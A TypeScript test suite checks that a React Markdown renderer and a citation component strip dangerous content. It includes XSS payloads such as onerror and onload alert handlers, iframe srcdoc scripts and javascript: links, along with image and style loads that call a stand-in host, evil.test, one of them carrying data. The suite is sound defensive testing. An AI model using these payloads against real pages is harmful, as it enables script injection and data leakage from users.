import { parseHTML } from "linkedom";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { Answer } from "#/app/_ui/answer.tsx";
import { Markdown } from "#/app/_ui/markdown.tsx";
import type { NumberedEvidence } from "#/lib/protocol/result.ts";

describe("Markdown", () => {
  test.each([
    "![a](https://evil.test/x?d=S)",
    "![a][r]\n\n[r]: https://evil.test/x",
    "![a](//evil.test/x)",
    "![a](/\\evil.test/x)",
    "<img src=https://evil.test/x onerror=alert(1)>",
    "<svg onload=alert(1)><image href=https://evil.test/x></svg>",
    "<style>@import url(https://evil.test)</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "| a |\n| --- |\n| ![x](https://evil.test/x) |",
  ])("loads nothing and runs nothing: %j", (text) => {
    const elements = [...parse(render(text)).querySelectorAll("body *")];
    const names = new Set(elements.map((element) => element.tagName.toLowerCase()));
    expect([...names].filter((name) => !harmless.has(name))).toEqual([]);
    const attributes = new Set(elements.flatMap((element) => element.getAttributeNames()));
    expect([...attributes].filter((name) => /^(on|src|style|srcdoc)/.test(name))).toEqual([]);
  });

  test.each([
    "[x](javascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](data:text/html,y)",
    "<javascript:alert(1)>",
  ])("makes no link of %j", (text) => expect(render(text)).not.toContain("href="));

  test("opens links in a new tab and tells them nothing", () => {
    expect(render("[x](https://example.com)")).toMatch(
      /target="_blank" rel="noopener noreferrer"|rel="noopener noreferrer".*target="_blank"/,
    );
  });

  test("shows a picture as a link that names it", () => {
    expect(render("![A cat](https://example.com/cat.png)")).toContain("[Picture: A cat]</a>");
  });

  test.each([
    ["quotes", ">".repeat(10_000)],
    ["lists", "- ".repeat(10_000)],
    ["numbered lists", "1) ".repeat(5_000)],
    ["lists by indentation", Array.from({ length: 500 }, (_, level) => `${"  ".repeat(level)}- x`).join("\n")],
    ["emphasis", `${"*a ".repeat(5_000)}${" b*".repeat(5_000)}`],
    ["emphasis that never closes", "*a ".repeat(10_000)],
    ["marks without words", "*_".repeat(20_000)],
    ["words with marks in them", "a_b*c".repeat(8_000)],
    ["code marks", "` `` ".repeat(8_000)],
    ["links in links", "[a](".repeat(5_000)],
    ["brackets", `${"[".repeat(10_000)}x${"](y)".repeat(10_000)}`],
  ])("a text of nothing but nested %s is shown soon, and throws nothing", { timeout: 60_000 }, (_name, text) => {
    const before = process.threadCpuUsage();
    expect(render(`${text} end`)).toContain("end");
    const { user, system } = process.threadCpuUsage(before);
    // What this thread had of the processor, not the clock. The slowest takes 1 s, and up to 6 s while the other core is busy.
    expect((user + system) / 1_000).toBeLessThan(20_000);
  });

  test("keeps code apart, with its language", () => {
    const html = render("```ts\nconst a = [1];\n```");
    expect(html).toContain(">ts</span>");
    expect(html).toContain("const a = [1];");
  });
});

describe("citations of an answer", () => {
  test("a known number becomes a link to its source that hugs the word before", () => {
    const html = renderAnswer("It settles once [1].");
    expect(html).toContain("It settles once<sup");
    expect(html).toContain('href="/documents/d#passage-1"');
    expect(html).toContain('aria-label="Source 1: Architecture"');
  });

  test("an unknown number stays the text that it was", () => {
    expect(renderAnswer("Nothing here [9].")).toContain("<p>Nothing here [9].</p>");
  });

  test("a list of numbers becomes one link each", () => {
    expect(renderAnswer("Both [1, 2].").match(/<sup/g)).toHaveLength(2);
  });

  test("a number that the text defines as a link of its own still names the evidence", () => {
    expect(renderAnswer("Claim [1].\n\n[1]: https://evil.test")).not.toContain("evil.test");
  });

  test("numbers in code and in links are left alone", () => {
    expect(renderAnswer("`a[1]` and [see [1]](https://example.com)")).not.toContain("<sup");
  });
});

const harmless = new Set(["p", "a", "section", "table", "thead", "tbody", "tr", "th", "td"]);

function parse(html: string) {
  return parseHTML(`<html><body>${html}</body></html>`).document;
}

function render(text: string): string {
  return renderToStaticMarkup(createElement(Markdown, { text }));
}

function renderAnswer(text: string): string {
  const source = { title: "Architecture", heading: [], url: "/documents/d#passage-1", origin: "docs/a.md" };
  const evidence: NumberedEvidence[] = [1, 2].map((n) => ({ n, claim: "c", quote: "q", source }));
  return renderToStaticMarkup(
    createElement(Answer, { text, evidence: new Map(evidence.map((found) => [found.n, found])) }),
  );
}
